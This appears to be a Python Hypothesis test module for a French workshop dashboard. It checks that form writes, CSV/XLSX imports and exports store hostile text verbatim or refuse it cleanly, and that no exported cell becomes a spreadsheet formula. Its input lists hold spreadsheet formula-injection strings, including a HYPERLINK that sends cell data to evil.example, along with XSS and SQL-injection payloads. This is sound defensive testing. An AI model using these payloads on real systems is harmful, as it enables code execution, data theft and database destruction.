"""Hostile input: every import and every form's write function, fed random and nasty values.

The property for each write: it either stores the text verbatim (only the surrounding blanks are
trimmed) or refuses with a French LaboError and changes nothing; never another exception (which the
page would show as a traceback). Exports never turn user text into a spreadsheet formula.
"""

from __future__ import annotations

import csv
import io
import shutil
import warnings
import zipfile
from zoneinfo import ZoneInfo

import duckdb
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook

from labo_dash import (
    access,
    action_creation,
    action_table,
    actions,
    audit,
    backup,
    barometer,
    challenges,
    clock,
    db,
    diagnosis,
    participants,
    review,
    rounds,
    solutions,
    updates,
    voting,
)
from labo_dash import settings as app_settings
from labo_dash.errors import LaboError
from labo_dash.imports import actions as actions_import
from labo_dash.imports import diagnosis as diagnosis_import
from labo_dash.imports.spreadsheet import FORMULA_STARTS, from_csv, xlsx_text
from labo_dash.reporting import monthly, open_data
from labo_dash.reporting.workbook import report_xlsx

ACTOR = access.Actor(access.ORGANISER, "Test hostile")
TODAY = clock.now().astimezone(ZoneInfo("Europe/Paris")).date()  # the seminar's date (default zone)
EXAMPLES = settings(
    max_examples=30, deadline=None, database=None, suppress_health_check=[HealthCheck.too_slow]
)

FORMULAS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?d="&A1;"clic")',
    "+33 6 12 34 56 78",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
]
MARKUP = [
    "<img src=x onerror=alert(1)>**gras**",
    "<script>alert('x')</script>",
    "[clic](javascript:alert(1))",
    ":red[rouge] $x^2$ `code` ~~barré~~",
    "# Titre\n- liste\n> citation",
]
SQL = [
    "'); DROP TABLE findings; --",
    "Robert'); DROP TABLE participants;--",
    "1' OR '1'='1",
    '"; DELETE FROM audit_log; --',
    "%_\\ ? $1 :name",
]
ODD = ["\x00nul", "\u202egauche à droite", "𝕌𝕟𝕚𝕔𝕠𝕕𝕖 🤝 é è ê ç œ Æ ß", "ｆｕｌｌ\u00a0ｗｉｄｔｈ",
       "  espaces  ", ""]
NASTY = FORMULAS + MARKUP + SQL + ODD

texts = st.one_of(
    st.sampled_from(NASTY),
    st.text(max_size=60),
    st.lists(st.sampled_from(NASTY) | st.text(max_size=12), min_size=1, max_size=4).map(" ".join),
    st.builds(lambda s, n: s * n, st.text(min_size=1, max_size=4), st.integers(40, 3000)),  # huge
)
numbers = st.one_of(
    st.none(),
    st.integers(min_value=-(2**70), max_value=2**70),
    st.floats(allow_nan=True, allow_infinity=True),
    st.sampled_from([0, 1, 100, 12_500.555, -1, 10**12, 1e308, float("inf"), float("-inf"), float("nan")]),
)

whole = st.integers() | st.sampled_from([0, -1, 5, 7, 20, 21, 2**31, 2**63])


def stored(value: str | None) -> str | None:
    """Return what a form keeps of a text: surrounding blanks trimmed, None when nothing is left."""
    return (value or "").strip() or None


def state(con: duckdb.DuckDBPyConnection, *tables: str) -> dict[str, tuple[int, int]]:
    """Return the row count and an order-independent checksum of each table (audit log included)."""
    cur = con.cursor()
    return {
        name: cur.table(name).query("r", "SELECT count(*), bit_xor(hash(r)) FROM r").fetchall()[0]
        for name in (*tables, "audit_log")
    }


def attempt(con: duckdb.DuckDBPyConnection, tables: tuple[str, ...], call):
    """Run a write: return its result, or None after checking that a refusal changed nothing."""
    before = state(con, *tables)
    try:
        return call()
    except LaboError as exc:
        assert str(exc).strip(), "a refusal explains itself"
        assert state(con, *tables) == before, "a refused write changed the database"
        return None


@pytest.fixture(scope="module")
def hostile(tmp_path_factory, demo_template):
    """A private demo database with an open dots round and one fresh action, shared by the module.

    The backup taken before each import is tested in test_import_backups.py; here it would only slow
    the hundreds of imports down, so it is switched off.
    """
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(backup, "before_import", lambda con: None)
        yield from _hostile(tmp_path_factory.mktemp("hostile") / "labo.duckdb", demo_template)


def _hostile(path, demo_template):
    shutil.copy(demo_template, path)
    con = db.open_database(path)
    app_settings.set_setting(con, ACTOR, participants.SELF_REGISTRATION, True)
    rules = rounds.RoundRules("Tour hostile", max_per_item=2)
    round_id = rounds.create_round(con, ACTOR, rules, [1, 2, 3, 4])
    rounds.set_status(con, ACTOR, round_id, "open")
    solution_id = db.query(con, "SELECT min(id) AS id FROM solutions")[0]["id"]
    (action_id,) = action_creation.create_actions(con, ACTOR, solution_id, ["Action hostile"], {},
                                          reported_on=TODAY, reported_by=None, today=TODAY)
    codes = [r["code"] for r in db.query(con, "SELECT code FROM participants ORDER BY id LIMIT 5")]
    yield {"con": con, "path": path, "round": round_id, "solution": solution_id, "action": action_id,
           "codes": codes}
    con.close()


# --- Forms of the diagnosis ---------------------------------------------------------------------------


@EXAMPLES
@given(text=texts, group=texts)
def test_finding_form_stores_text_verbatim_or_refuses(hostile, text, group):
    con = hostile["con"]
    fields = {"workshop_id": 1, "kind": "frein", "text": text, "objective_ids": [1, 3], "group_label": group}
    finding_id = attempt(con, ("findings", "finding_objectives"),
                         lambda: diagnosis.add_finding(con, ACTOR, **fields))
    if finding_id is not None:
        row = diagnosis.get_finding(con, finding_id)
        assert (row.text, row.group_label) == (stored(text), stored(group))
        edited = attempt(con, ("findings", "finding_objectives"), lambda: diagnosis.update_finding(
            con, ACTOR, finding_id, **{**fields, "text": group, "group_label": text}))
        if edited is not None:
            assert diagnosis.get_finding(con, edited).text == stored(group)


@EXAMPLES
@given(title=texts, description=texts, weight=numbers)
def test_challenge_form_stores_text_verbatim_or_refuses(hostile, title, description, weight):
    con = hostile["con"]
    challenge_id = attempt(con, ("challenges", "challenge_objectives", "challenge_findings"),
                           lambda: challenges.create_challenge(
                               con, ACTOR, title=title, description=description, workshop_id=2,
                               weights={1: weight, 2: 40}, finding_ids=[1]))
    if challenge_id is not None:
        row = challenges.get_challenge(con, challenge_id)
        assert (row.title, row.description) == (stored(title), stored(description))
        attempt(con, ("challenges", "challenge_objectives", "challenge_findings"),
                lambda: challenges.update_challenge(con, ACTOR, challenge_id, title=description,
                                                    description=title, workshop_id=2, weights={5: 100}))


# --- Participants, rounds and ballots -----------------------------------------------------------------


@EXAMPLES
@given(name=texts, structure=texts, territory=texts, email=texts | st.emails(), kind=texts | st.just("PTCE"))
def test_participant_forms_store_text_verbatim_or_refuse(hostile, name, structure, territory, email, kind):
    con = hostile["con"]
    values = {"name": name, "structure": structure, "kind": kind, "territory": territory, "email": email}
    for register, actor in ((participants.register_participant, ACTOR),
                            (participants.self_register, access.Actor(access.ANONYMOUS))):
        created = attempt(con, ("participants",), lambda r=register, a=actor: r(con, a, values))
        if created is not None:
            row = participants.participant_by_code(con, created.code)
            assert (row.name, row.structure, row.territory) == (
                stored(name), stored(structure), stored(territory))


@EXAMPLES
@given(title=texts, dots=whole, cap=whole, scale=whole)  # the form's number inputs give whole numbers
def test_round_form_refuses_bad_rules_in_french(hostile, title, dots, cap, scale):
    con = hostile["con"]

    def create():
        rules = rounds.RoundRules(title, "challenges", "dots", dots, cap, scale)
        return rounds.create_round(con, ACTOR, rules, [1, 2])

    round_id = attempt(con, ("rounds", "round_items"), create)
    if round_id is not None:
        assert rounds.get_round(con, round_id).title == title.strip()


@EXAMPLES
@given(
    code=texts | st.sampled_from(["Y27F-WVKP", "y27fwvkp "]),
    known=st.integers(0, 4),
    use_known=st.booleans(),
    choices=st.dictionaries(st.integers(-3, 8) | st.integers(), st.tuples(numbers, st.booleans()),
                            max_size=6),
)
def test_ballot_is_stored_whole_or_refused(hostile, code, known, use_known, choices):
    con, round_id = hostile["con"], hostile["round"]
    if use_known:
        code = hostile["codes"][known]
    ints = {k: (v, c) for k, (v, c) in choices.items() if isinstance(v, int)}
    receipt = attempt(con, ("ballots", "ballot_entries"),
                      lambda: voting.submit_ballot(con, ACTOR, round_id, code, ints))
    if receipt is not None:
        participant = participants.participant_by_code(con, code)
        current = voting.current_ballot(con, round_id, participant.id)
        assert current == {k: (v, c) for k, (v, c) in ints.items() if v or c}


@pytest.fixture(scope="module")
def phone(hostile):
    """The light phone ballot's routes (as serve.py mounts them), on the module's database."""
    from starlette.applications import Starlette

    from labo_dash.phone.ballot import routes

    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("LABO_DB", str(hostile["path"]))
        with warnings.catch_warnings():
            warnings.simplefilter("ignore")  # Starlette's test client would rather have httpx2 than httpx
            from starlette.testclient import TestClient

            client = TestClient(Starlette(routes=routes()))
        with client:
            yield client
        db.close(hostile["path"])


@EXAMPLES
@given(code=texts, known=st.integers(0, 4), use_known=st.booleans(), round_text=texts,
       use_round=st.booleans(), checked=st.lists(texts | st.integers().map(str), max_size=5),
       grades=st.dictionaries(st.integers(0, 12).map(lambda i: f"v{i}"), texts | st.integers().map(str)))
def test_light_ballot_answers_every_post_without_a_server_error(hostile, phone, code, known, use_known,
                                                                round_text, use_round, checked, grades):
    con = hostile["con"]
    form = {"code": hostile["codes"][known] if use_known else code,
            "round": str(hostile["round"]) if use_round else round_text, "v": checked, **grades}
    before = state(con, "ballots", "ballot_entries")
    answer = phone.post("/bulletin", data=form, follow_redirects=False)
    assert answer.status_code in (303, 400, 404, 422), answer.text[:300]
    if answer.status_code != 303:
        assert state(con, "ballots", "ballot_entries") == before
        assert "Traceback" not in answer.text and "<script>alert" not in answer.text


# --- Solutions, actions, updates, reviews -------------------------------------------------------------


@EXAMPLES
@given(title=texts, description=texts)
def test_solution_forms_store_text_verbatim_or_refuse(hostile, title, description):
    con = hostile["con"]
    solution_id = attempt(con, ("solutions",),
                          lambda: solutions.add_solution(con, ACTOR, 1, title, description))
    if solution_id is not None:
        row = solutions.get_solution(con, solution_id)
        assert (row.title, row.description) == (stored(title), stored(description))
        attempt(con, ("solutions",),
                lambda: solutions.update_solution(con, ACTOR, solution_id, description, title))


@EXAMPLES
@given(titles=st.lists(texts, min_size=1, max_size=3), text=texts, budget=numbers, weight=numbers,
       progress=numbers, status=st.sampled_from(["a_lancer", "en_cours", "terminee", "n'importe"]))
def test_action_form_stores_text_verbatim_or_refuses(hostile, titles, text, budget, weight, progress, status):
    con = hostile["con"]
    fields = {"description": text, "pilot_structure": text, "pilot_person": text, "funders": text,
              "next_step": text, "budget_planned": budget, "weight": weight}
    ids = attempt(con, ("actions", "progress_updates"), lambda: action_creation.create_actions(
        con, ACTOR, hostile["solution"], titles, fields, status=status, progress_value=progress,
        reported_on=TODAY, reported_by=text, today=TODAY))
    if ids is not None:  # blank lines of the titles box create nothing: one action per non-blank title
        kept = [stored(t) for t in titles if stored(t)]
        assert [actions.get_action(con, i).title for i in ids] == kept
        assert actions.get_action(con, ids[0]).description == stored(text)


@EXAMPLES
@given(comment=texts, url=texts | st.sampled_from(["https://exemple.org/preuve", "javascript:alert(1)"]),
       progress=numbers, status=st.sampled_from(["en_cours", "en_pause", "terminee", "<b>x</b>"]))
def test_progress_update_form_appends_verbatim_or_refuses(hostile, comment, url, progress, status):
    con, action_id = hostile["con"], hostile["action"]
    update_id = attempt(con, ("actions", "progress_updates"), lambda: updates.record_update(
        con, ACTOR, action_id, reported_on=TODAY, status=status, progress_value=progress, comment=comment,
        evidence_url=url, reported_by=comment, today=TODAY))
    if update_id is not None:
        row = updates.history(con, action_id).set_index("id").loc[update_id]
        assert row["comment"] == stored(comment) or (row["comment"] is None and stored(comment) is None)


# What each column of the action table's editor can hold (text, number or date cells).
CELLS = {
    **{name: texts for name, (_, limit) in actions.FIELDS.items() if limit},
    "budget_planned": numbers, "budget_secured": numbers, "weight": numbers, "progress": numbers,
    "start_date": st.none() | st.dates(), "due_date": st.none() | st.dates(),
    "status": texts | st.sampled_from(["en_cours", "terminee", "abandonnee"]),
    "comment": texts, "evidence_url": texts, "id; DROP TABLE actions": texts,
}


@EXAMPLES
@given(diff=st.dictionaries(st.sampled_from(list(CELLS)), st.none(), min_size=1, max_size=4).flatmap(
    lambda keys: st.fixed_dictionaries({key: CELLS[key] for key in keys})))
def test_action_table_edits_save_whole_or_refuse(hostile, diff):
    con, action_id = hostile["con"], hostile["action"]
    saved = attempt(con, ("actions", "progress_updates"), lambda: action_table.save_changes(
        con, ACTOR, {action_id: diff}, reported_on=TODAY, reported_by="Test", today=TODAY))
    if saved is not None:  # every text cell typed is stored verbatim (blanks trimmed), the comment too
        row = actions.get_action(con, action_id).fields()
        typed = {name: value for name, value in diff.items() if actions.FIELDS.get(name, ("", None))[1]}
        assert {name: row[name] for name in typed} == {name: stored(value) for name, value in typed.items()}
        if saved.updates and stored(diff.get("comment")):
            latest = updates.history(con, action_id).sort_values("id").iloc[-1]
            assert latest["comment"] == stored(diff["comment"])


@EXAMPLES
@given(text=texts, owner=texts, notes=texts)
def test_review_forms_store_text_verbatim_or_refuse(hostile, text, owner, notes):
    con = hostile["con"]
    month = TODAY.replace(day=1)
    decision_id = attempt(con, ("reviews", "decisions"), lambda: review.add_decision(
        con, ACTOR, month, text, hostile["action"], owner))
    if decision_id is not None:
        row = review.decisions(con, month).set_index("id").loc[decision_id]
        assert row["text"] == stored(text)
    if attempt(con, ("reviews",), lambda: review.save_review(con, ACTOR, month, TODAY, notes)) is not None:
        assert review.get_review(con, month).notes == stored(notes)


@EXAMPLES
@given(territory=texts, scores=st.dictionaries(st.integers(0, 6) | st.integers(), numbers, max_size=6))
def test_barometer_form_stores_or_refuses(hostile, territory, scores):
    con = hostile["con"]
    before = db.query(con, "SELECT max(id) AS id FROM barometer_ratings")[0]["id"] or 0

    def rate() -> bool:
        barometer.rate(con, ACTOR, scores, participant_kind="ptce", territory=territory)
        return True

    if attempt(con, ("barometer_ratings",), rate):
        rows = db.query(con, "SELECT objective_id, score, participant_kind, territory FROM barometer_ratings "
                             "WHERE id > ? ORDER BY objective_id", [before])
        assert [(r["objective_id"], r["score"], r["participant_kind"], r["territory"]) for r in rows] == [
            (objective, scores[objective], "ptce", stored(territory)) for objective in sorted(scores)]


# --- Imports ------------------------------------------------------------------------------------------

ENCODINGS = ["utf-8", "utf-8-sig", "cp1252", "utf-16", "latin-1", "mac_roman", "shift_jis", "utf-32"]


def csv_bytes(rows: list[list[str]], encoding: str) -> bytes:
    out = io.StringIO(newline="")
    csv.writer(out, delimiter=";").writerows(rows)
    return out.getvalue().encode(encoding, errors="replace")


def xlsx_bytes(rows: list[list[str]]) -> bytes:
    workbook = Workbook()
    for row in rows:
        # A text starting with "=" becomes a formula, as in Excel; .xlsx cannot hold control characters.
        workbook.active.append([xlsx_text(cell) for cell in row])
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


IMPORTS = {
    "findings": (diagnosis_import.import_findings, ("findings", "finding_objectives"),
                 ["atelier", "type", "texte", "objectifs", "groupe"],
                 lambda t: ["1", "levier", t, "2, 4", t], "SELECT text AS value FROM findings WHERE id = ?"),
    "challenges": (diagnosis_import.import_challenges, ("challenges", "challenge_objectives"),
                   ["titre", "description", *(f"objectif {n}" for n in range(1, 6))],
                   lambda t: [t, t, "30", "70", "", "", ""],
                   "SELECT title AS value FROM challenges WHERE id = ?"),
    "participants": (participants.import_participants, ("participants",),
                     ["nom", "structure", "type de participant", "territoire"],
                     lambda t: [t, t, "Collectivité territoriale", t],
                     "SELECT name AS value FROM participants WHERE id = ?"),
}


@pytest.mark.parametrize("kind", IMPORTS)
@settings(max_examples=25, deadline=None, database=None,
          suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture])
@given(text=texts, encoding=st.sampled_from([*ENCODINGS, "xlsx"]), junk=st.binary(max_size=40),
       use_junk=st.booleans())
def test_imports_store_verbatim_or_refuse_whole_file(hostile, kind, text, encoding, junk, use_junk):
    con = hostile["con"]
    importer, tables, header, row, query = IMPORTS[kind]
    rows = [header, row(text)]
    data = xlsx_bytes(rows) if encoding == "xlsx" else csv_bytes(rows, encoding)
    if use_junk:
        data = data[: len(data) // 2] + junk + data[len(data) // 2:]
    result = attempt(con, tables, lambda: importer(con, ACTOR, data, f"hostile.{encoding}"))
    if result is None or use_junk:
        return
    new_id = result[0].id if kind == "participants" else result[0]
    value = db.query(con, query, [new_id])[0]["value"]
    if encoding in ("utf-8", "utf-8-sig", "utf-16") and "\r" not in text and "\x00" not in text:
        assert value == stored(text)


ACTION_HEADERS = ["N°", "Action", "Description", "Budget prévu (€)", "Statut", "Avancement (%)"]
cell_numbers = numbers.map(lambda n: "" if n is None else str(n).replace(".", ","))


@settings(max_examples=30, deadline=None, database=None, suppress_health_check=[HealthCheck.too_slow])
@given(title=texts, description=texts, budget=texts | cell_numbers, progress=texts | cell_numbers,
       status=texts | st.sampled_from(["En cours", "terminée", "EN PAUSE", ""]),
       fmt=st.sampled_from(["csv", "xlsx"]))
def test_actions_import_stores_verbatim_or_refuses_whole_file(hostile, title, description, budget, progress,
                                                               status, fmt):
    con, action_id = hostile["con"], hostile["action"]
    rows = [ACTION_HEADERS, [str(action_id), title, description, budget, status, progress]]
    if fmt == "xlsx":
        workbook = Workbook()
        workbook.active.title = "Actions"
        for row in rows:
            workbook.active.append([xlsx_text(cell) for cell in row])
        buffer = io.BytesIO()
        workbook.save(buffer)
        data = buffer.getvalue()
    else:
        data = csv_bytes(rows, "utf-8")
    plan = attempt(con, ("actions", "progress_updates"),
                   lambda: actions_import.apply_import(con, ACTOR, data, f"actions.{fmt}", TODAY))
    if plan is not None and fmt == "csv" and "\r" not in title + description:
        row = db.query(con, "SELECT title, description FROM actions WHERE id = ?", [action_id])[0]
        assert (row["title"], row["description"]) == (stored(from_csv(title)), stored(from_csv(description)))


# --- Exports ------------------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def formula_rows(hostile):
    """Store every formula-like text as a finding and a solution, and sign an audit entry with one."""
    con = hostile["con"]
    for text in FORMULAS:
        diagnosis.add_finding(con, access.Actor(access.ORGANISER, text), workshop_id=1, kind="constat",
                              text=f"{text} (constat)", objective_ids=[1])
        solutions.add_solution(con, ACTOR, 1, f"{text} (solution)")
    return [f.strip() for f in FORMULAS]


def test_open_data_csv_never_starts_a_cell_with_a_formula(hostile, formula_rows):
    archive = zipfile.ZipFile(io.BytesIO(open_data.open_data_zip(hostile["con"])))
    for name in ("findings", "solutions"):
        cells = [c for row in csv.reader(io.StringIO(archive.read(f"donnees-ouvertes/{name}.csv").decode()))
                 for c in row]
        assert not [c for c in cells if c.startswith(FORMULA_STARTS) and not c.lstrip("-").isdigit()]
        quoted = {c for c in cells if c.startswith("'")}
        for text in formula_rows:
            assert any(c.startswith("'" + text) for c in quoted), (name, text)
    import pyarrow.parquet as pq

    texts = pq.read_table(io.BytesIO(archive.read("donnees-ouvertes/findings.parquet")))["text"].to_pylist()
    assert all(f"{text} (constat)" in texts for text in formula_rows)  # Parquet keeps the text verbatim


def test_audit_exports_store_formula_like_text_as_text(hostile, formula_rows):
    frame = audit.audit_log(hostile["con"], ACTOR)
    sheet = load_workbook(io.BytesIO(audit.to_xlsx(frame))).active
    formulas = [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"]
    assert formulas == []
    who = [c.value for c in sheet["C"][1:]]
    assert all(text in who for text in FORMULAS)  # shown verbatim, as text
    text = audit.to_csv(frame).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))
    assert len(rows) == len(frame) + 1, "a line break typed in a text split a row"
    cells = [c for row in rows[1:] for c in row]
    assert not [c for c in cells if c.startswith(FORMULA_STARTS) and not c.lstrip("-").isdigit()]


def test_monthly_report_workbook_keeps_user_text_as_text(hostile, formula_rows):
    con = hostile["con"]
    titles = [f"{text} (action)" for text in FORMULAS] + ["Bip\x07 contrôle \x1b"]
    action_creation.create_actions(con, ACTOR, hostile["solution"], titles, {"pilot_person": FORMULAS[0]},
                           status="en_cours", progress_value=5, reported_on=TODAY, reported_by=None,
                           today=TODAY)
    book = load_workbook(io.BytesIO(report_xlsx(monthly.build_report(con, TODAY.replace(day=1), TODAY))))
    formulas = [(s.title, c.coordinate) for s in book.worksheets for row in s.iter_rows() for c in row
                if c.data_type == "f"]
    assert formulas == []
    values = {c.value for row in book["Actions"].iter_rows() for c in row}
    assert {f"{text} (action)".strip() for text in FORMULAS} <= values
    assert "Bip contrôle " in values  # control characters dropped, the rest kept


def test_control_characters_do_not_break_the_excel_export(hostile):
    con = hostile["con"]
    diagnosis.add_finding(con, access.Actor(access.ORGANISER, "Bip\x07 \x01"), workshop_id=1, kind="constat",
                          text="Texte avec \x0b caractère de contrôle \x1b", objective_ids=[1])
    sheet = load_workbook(io.BytesIO(audit.to_xlsx(audit.audit_log(con, ACTOR)))).active
    assert "Bip" in sheet["C2"].value  # the newest entry, its control characters dropped


def test_a_protected_csv_cell_comes_back_verbatim_through_an_import(hostile):
    con = hostile["con"]
    text = "=1+1 « formule » exportée puis réimportée"
    data = csv_bytes([["atelier", "type", "texte", "objectifs"], ["1", "frein", "'" + text, "1"]], "utf-8")
    (finding_id,) = diagnosis_import.import_findings(con, ACTOR, data, "retour.csv")
    assert diagnosis.get_finding(con, finding_id).text == text
